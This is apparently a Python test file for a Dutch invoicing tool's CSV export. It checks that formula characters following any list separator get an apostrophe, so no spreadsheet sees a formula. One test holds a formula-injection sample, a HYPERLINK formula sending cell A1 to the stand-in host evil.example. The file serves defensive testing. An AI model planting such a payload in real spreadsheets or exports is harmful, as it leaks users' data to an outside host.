"""The export CSV opened by a spreadsheet with another list separator (comma, tab).

The file is separated by semicolons for a Dutch or Belgian Excel; an Excel whose list separator
is a comma splits every line at each comma, quoted or not. No part of a text may then start a
cell with a formula character, and a CSV reader still gets every text back with only the
neutralising apostrophes added (``outputs/accountant.csv_text``).
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from debiteuren.outputs.accountant import csv_text

_FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_HOSTILE = st.text(
    alphabet=st.sampled_from([*"=+-@,;\t\r\n\" 'aK1(", "\uff1d", "\u00a0", "\u2028"]),
    max_size=30,
)


def _file(texts: list[str]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(["K001", *(csv_text(t) for t in texts)])
    return out.getvalue()


def _cells_as_read_with(separator: str, raw: str) -> list[str]:
    """Return the cells a spreadsheet with ``separator`` may make of ``raw``: split plainly
    (a quote inside a field ignored, a field that starts with one unquoted) and by a CSV
    reader (quotes honoured), each line on its own."""
    cells = []
    for line in raw.replace("\r", "\n").split("\n"):
        cells += [_unquoted(piece, separator) for piece in line.split(separator)]
        cells += [c for row in csv.reader([line], delimiter=separator) for c in row]
    return cells


def _unquoted(piece: str, separator: str) -> str:
    """Return a field as read when it starts with a double quote (a CSV reader's reading)."""
    if not piece.startswith('"'):
        return piece
    return next(csv.reader([piece], delimiter=separator))[0]


def _formula(cell: str) -> bool:
    """Return whether a spreadsheet reads ``cell`` as a formula (also after a tab or break)."""
    return cell.lstrip("\t\r\n \u00a0").startswith(_FORMULA)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('Klant,=HYPERLINK("http://x","y")', 'Klant,\'=HYPERLINK("http://x","y")'),
        ("Klant, =1+1", "Klant, '=1+1"),
        ('Klant,"=1+1"', 'Klant,"\'=1+1"'),
        ("Klant;@SUM(1)", "Klant;'@SUM(1)"),
        ("Klant\t-2", "Klant\t'-2"),
        ("Klant\n+31", "Klant\n'+31"),
        ("=a,=b", "'=a,'=b"),
        (" =1+1", "' =1+1"),  # LibreOffice's import may trim the space and then see a formula
        ("\u00a0@SUM(1)", "'\u00a0@SUM(1)"),
        ("Korting, 10% (2026-017)", "Korting, 10% (2026-017)"),
        ("a=b, c-d", "a=b, c-d"),
    ],
)
def test_a_formula_after_a_separator_inside_a_text_gets_an_apostrophe(text, expected):
    assert csv_text(text) == expected


def test_a_comma_excel_sees_no_formula_in_the_hyperlink_name():
    raw = _file(['Klant,=HYPERLINK("http://evil.example/?"&A1,"klik")', "Factuur"])
    cells = _cells_as_read_with(",", raw)
    assert not [c for c in cells if _formula(c)]
    assert "'=HYPERLINK(" in raw


@settings(max_examples=300, deadline=None)
@given(st.lists(_HOSTILE, min_size=1, max_size=3))
def test_no_separator_starts_a_formula_and_the_texts_read_back(texts):
    raw = _file(texts)
    for separator in (",", ";", "\t"):
        for cell in _cells_as_read_with(separator, raw):
            assert not _formula(cell), (separator, cell)
    (row,) = csv.reader(io.StringIO(raw, newline=""), delimiter=";")
    assert row[0] == "K001"
    for written, text in zip(row[1:], texts, strict=True):
        assert written.replace("'", "") == text.replace("'", "")
        assert len(written) - len(text) == written.count("'") - text.count("'")
